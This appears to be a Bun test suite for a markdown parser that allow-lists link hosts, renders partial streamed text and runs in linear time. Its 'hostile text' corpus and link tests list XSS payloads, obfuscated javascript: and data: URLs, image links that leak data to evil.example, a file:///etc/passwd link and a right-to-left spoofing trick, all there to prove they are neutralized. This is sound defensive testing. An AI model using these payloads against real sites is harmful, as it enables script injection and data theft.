import { describe, expect, test } from "bun:test";
import { type Block, type Inline, parseMarkdown } from "./markdown.ts";

const allowedHosts = ["shop.example", "docs.shop.example:8443"];

function parse(text: string, partial = false): readonly Block[] {
  return parseMarkdown(text, { allowedHosts, partial });
}

/** The inlines of a text that is one paragraph. */
function inlines(text: string, partial = false): readonly Inline[] {
  const [block, ...more] = parse(text, partial);
  if (block === undefined) return [];
  if (block.type !== "paragraph" || more.length > 0) throw new Error(`not one paragraph: ${text}`);
  return block.children;
}

/** Every plain object of a tree that has a `type`. */
function everyNode(value: unknown, found: Record<string, unknown>[] = []): Record<string, unknown>[] {
  if (Array.isArray(value)) for (const item of value) everyNode(item, found);
  else if (typeof value === "object" && value !== null) {
    const record: Record<string, unknown> = { ...value };
    if (typeof record.type === "string") found.push(record);
    for (const child of Object.values(record)) everyNode(child, found);
  }
  return found;
}

function linksOf(text: string, partial = false): string[] {
  return everyNode(parse(text, partial))
    .filter((node) => node.type === "link")
    .map((node) => String(node.href));
}

/** What a reader sees, without any formatting. */
function words(nodes: readonly Inline[]): string {
  return nodes
    .map((node) => {
      if (node.type === "text" || node.type === "code") return node.text;
      if (node.type === "citation") return `^${node.n}`;
      return node.type === "break" ? "\n" : words(node.children);
    })
    .join("");
}

describe("paragraphs and emphasis", () => {
  test("bold, italic and code are nodes", () => {
    expect(inlines("Open **daily**, *not* on `Sunday`.")).toEqual([
      { type: "text", text: "Open " },
      { type: "strong", children: [{ type: "text", text: "daily" }] },
      { type: "text", text: ", " },
      { type: "emphasis", children: [{ type: "text", text: "not" }] },
      { type: "text", text: " on " },
      { type: "code", text: "Sunday" },
      { type: "text", text: "." },
    ]);
  });

  test("a single line break is kept", () => {
    expect(inlines("Mon 9\nTue 10").map((node) => node.type)).toEqual(["text", "break", "text"]);
  });

  test.each([
    "2 * 3 * 4",
    "2*3*4",
    "snake_case_name",
    "**never closed",
    "a ** b",
    "a **** b",
    "5 > 3 and 2 < 4",
    "array[x]",
  ])("%s stays as it is", (text) => {
    expect(inlines(text)).toEqual([{ type: "text", text }]);
  });

  test("bold works between Chinese characters and quotation marks", () => {
    expect(inlines("我们**“周一”**营业")[1]).toEqual({
      type: "strong",
      children: [{ type: "text", text: "“周一”" }],
    });
  });

  test("three stars are bold and italic", () => {
    expect(words(inlines("***both***"))).toBe("both");
  });

  test("a backslash takes the meaning from a mark", () => {
    expect(inlines("\\*not\\* \\[1\\]")).toEqual([{ type: "text", text: "*not* [1]" }]);
  });
});

describe("blocks", () => {
  test("lists nest and keep their first number", () => {
    const [list] = parse("3. a\n   - b\n   - c\n4. d");
    if (list?.type !== "list") throw new Error("no list");
    expect([list.ordered, list.start, list.items.length]).toEqual([true, 3, 2]);
    expect(list.items[0]?.map((block) => block.type)).toEqual(["paragraph", "list"]);
  });

  test("an item may be indented by two although its number takes three", () => {
    const [list] = parse("1. a\n  - b\n  - c\n2. d");
    if (list?.type !== "list") throw new Error("no list");
    expect(list.items.length).toBe(2);
  });

  test("items with blank lines between them are one list", () => {
    expect(parse("- a\n\n- b\n\n- c").map((block) => block.type)).toEqual(["list"]);
  });

  test("headings, quotes, rules, code and tables", () => {
    const text = "# A\n> b\n\n---\n```js\nlet **x**\n```\n| a | b |\n|---|---|\n| 1 | 2 | 3 |\n\nend";
    const types = parse(text).map((block) => block.type);
    expect(types).toEqual(["heading", "quote", "rule", "code", "table", "paragraph"]);
  });

  test("code keeps its characters", () => {
    expect(parse("```js\nlet **x** = [1]\n\n<b>\n```")[0]).toEqual({
      type: "code",
      language: "js",
      text: "let **x** = [1]\n\n<b>",
    });
  });

  test("a table row has no more cells than the head", () => {
    const [table] = parse("| a | b |\n|---|---|\n| 1 | `x\\|y` | 3 |");
    if (table?.type !== "table") throw new Error("no table");
    expect(table.rows[0]?.length).toBe(2);
    expect(words(table.rows[0]?.[1] ?? [])).toBe("x|y");
  });

  test("nesting ends at a fixed depth", () => {
    expect(JSON.stringify(parse(`${"> ".repeat(500)}x`)).split('"quote"').length).toBe(9);
  });
});

describe("citations", () => {
  test("numbers in brackets are citations, alone or together", () => {
    expect(everyNode(parse("One [1], two [2, 3][4].")).filter((node) => node.type === "citation")).toEqual(
      [1, 2, 3, 4].map((n) => ({ type: "citation", n })),
    );
  });

  test.each(["[0]", "[2024]", "[a1]", "[1.5]", "[-1]", "[]", "`[1]`", "\\[1]"])("%s is none", (text) => {
    expect(everyNode(parse(text)).some((node) => node.type === "citation")).toBe(false);
  });

  test("a citation before a remark in parentheses is still one", () => {
    expect(words(inlines("so [1] (see below) and [2](see below)"))).toBe(
      "so ^1 (see below) and ^2(see below)",
    );
  });

  test("a citation that arrives in pieces never shows a bracket", () => {
    const text = "Yes [1], no [12].";
    for (let end = 0; end <= text.length; end++) {
      expect(words(inlines(text.slice(0, end), true))).not.toContain("[");
    }
  });
});

describe("text that is still being written", () => {
  test.each([
    ["a **bo", "strong"],
    ["a *it", "emphasis"],
    ["a `co", "code"],
  ])("%s already has its look", (text, type) => {
    expect(inlines(text, true).map((node) => String(node.type))).toEqual(["text", type]);
  });

  test.each([
    ["a **", "a "],
    ["a `", "a "],
    ["a [", "a "],
    ["a [shop](https://shop.exa", "a shop"],
    ["a [shop]", "a shop"],
    ["a\n##", "a"],
    ["a\n\n-", "a"],
  ])("%s shows no half mark", (text, shown) => {
    expect(words(inlines(text, true))).toBe(shown);
  });

  test("an open code fence is code", () => {
    expect(parse("```\nlet x", true)).toEqual([{ type: "code", language: "", text: "let x" }]);
  });

  test("a first table row is a table before its rule is there", () => {
    expect(parse("| a | b |\n|--", true)[0]?.type).toBe("table");
  });

  test("an address at the end is no link before it is complete", () => {
    expect(linksOf("see https://shop.example/pri", true)).toEqual([]);
    expect(linksOf("see https://shop.example/prices now", true)).toEqual(["https://shop.example/prices"]);
  });
});

describe("links", () => {
  test("a known host is linked, without its query", () => {
    expect(
      linksOf("[a](https://www.shop.example/p?d=secret#top) https://docs.shop.example:8443/x?y"),
    ).toEqual(["https://www.shop.example/p#top", "https://docs.shop.example:8443/x"]);
  });

  test("another host is text with its address, without its query", () => {
    expect(words(inlines("[prices](https://evil.example/p?data=secret)"))).toBe(
      "prices (https://evil.example/p)",
    );
    expect(words(inlines("https://evil.example/p?data=secret#x."))).toBe("https://evil.example/p.");
  });

  test("telephone numbers and addresses of the own domain are links", () => {
    expect(linksOf("[call](tel:+49 30 1) [c](tel:+49301234) info@shop.example <x@evil.example>")).toEqual([
      "tel:+49301234",
      "mailto:info@shop.example",
    ]);
    expect(linksOf("[m](mailto:info@shop.example?body=secret&bcc=x@evil.example)")).toEqual([
      "mailto:info@shop.example",
    ]);
  });

  test("the punctuation of the sentence is not part of an address", () => {
    expect(linksOf("(see https://shop.example/a_(b)). **https://shop.example/c**")).toEqual([
      "https://shop.example/a_(b)",
      "https://shop.example/c",
    ]);
  });

  test.each([
    "https://shop.example@evil.example/",
    "https://shop.example.evil.example/",
    "https://shop.example:444/",
    "https://evilshop.example/",
    "https://ѕhop.example/",
    "//shop.example/",
    "/relative",
    "ftp://shop.example/",
    "https:\\\\evil.example",
  ])("%s is not the known host", (address) => {
    expect(linksOf(`[x](${address}) ${address}`)).toEqual([]);
  });

  test("what a person wrote may lead anywhere, but never to a script", () => {
    const written = parseMarkdown("https://post.example/?id=7 [x](javascript:alert(1)) a@b.example", {
      allowedHosts: "any",
    });
    const links = everyNode(written).filter((node) => node.type === "link");
    expect(links.map((node) => String(node.href))).toEqual([
      "https://post.example/?id=7",
      "mailto:a@b.example",
    ]);
  });

  test("a client-side route in the fragment is dropped", () => {
    expect(linksOf("[x](https://shop.example/#/go?to=https://evil.example)")).toEqual([
      "https://shop.example/",
    ]);
  });

  test("an address that turns the reading direction is shown without the turn", () => {
    expect(words(inlines("[x](https://evil.example/\u202egpj.exe)"))).toBe(
      "x (https://evil.example/gpj.exe)",
    );
  });
});

const corpus = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&#x3a;alert(1))",
  "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
  "[x](%6aavascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  '[x](javascript:alert(1) "title")',
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://shop.example/0)",
  "[x](file:///etc/passwd)",
  "[x](view-source:https://shop.example)",
  '[x](https://shop.example/"onmouseover=alert(1)//)',
  "<javascript:alert(1)>",
  "<https://evil.example/?q=secret>",
  "![x](https://evil.example/p.png?data=secret)",
  "![](https://evil.example/p.png)",
  "![x](https://shop.example/p.png)",
  "[![x](https://evil.example/p.png)](https://evil.example/?q=secret)",
  "![x][ref]\n\n[ref]: https://evil.example/p.png?data=secret",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "[1]: javascript:alert(1)",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  "> - **[x](javascript:alert(1))**",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "**<b onclick=alert(1)>**",
  "[<img src=x onerror=alert(1)>](https://shop.example/)",
  "__proto__ [x](constructor) {{7*7}}",
];

const knownTypes = new Set(
  "paragraph heading code quote list table rule text strong emphasis link citation break".split(" "),
);

describe("hostile text", () => {
  test.each(corpus)("%s is harmless at every point of its arrival", (text) => {
    for (let end = 0; end <= text.length; end++) {
      for (const partial of [true, false]) {
        const nodes = everyNode(parse(text.slice(0, end), partial));
        for (const node of nodes) expect(knownTypes.has(String(node.type))).toBe(true);
        for (const node of nodes) {
          if (node.type === "link") expect(String(node.href)).toStartWith("https://shop.example/");
          if (node.type === "link") expect(String(node.href)).not.toMatch(/[?"'<>\s]/);
        }
      }
    }
  });

  test("raw HTML is text, character for character", () => {
    expect(inlines("<b>hi</b> &lt;")).toEqual([{ type: "text", text: "<b>hi</b> &lt;" }]);
  });

  test("an image leaves only its description", () => {
    expect(words(inlines("A ![red shoe](https://evil.example/p.png?d=1) B"))).toBe("A red shoe B");
  });
});

describe("time", () => {
  const patterns = [
    "[",
    "*",
    "**a ",
    "> ",
    "a|b",
    "`",
    "` `` ",
    "![",
    "[a](",
    "_a_",
    "- ",
    "1. ",
    "(",
    "https://",
  ];
  const more = [
    "a@",
    "a@b.",
    "\\[",
    "<",
    "[1]",
    "- a\n",
    "> a\n",
    "#",
    "~~~\n",
    "\n",
    "***a",
    "-\n\n",
    "https://a)",
  ];
  test.each([...patterns, ...more])("a megabyte of %j comes to an end", (pattern) => {
    expectEnd(pattern.repeat(Math.ceil(1_000_000 / pattern.length)));
  });

  test("a megabyte of table bars, growing runs of backticks and deepening lists, too", () => {
    expectEnd("| | |".repeat(200_000));
    expectEnd("| | |\n|-|-|\n".repeat(100_000));
    const growing = (part: (i: number) => string): string =>
      Array.from({ length: 600 }, (_, i) => part(i)).join("");
    expectEnd(growing((i) => `${"`".repeat(i)} a`));
    expectEnd(growing((i) => `${" ".repeat(i)}- a\n`));
    expectEnd(growing((i) => `${"> ".repeat(i)}a\n`));
  });

  /**
   * Linear parsing of a megabyte takes a fraction of a second; a quadratic step takes minutes, which is over the
   * runner's limit for a test.
   */
  function expectEnd(text: string): void {
    for (const partial of [false, true]) expect(parse(text, partial)).toBeArray();
  }
});
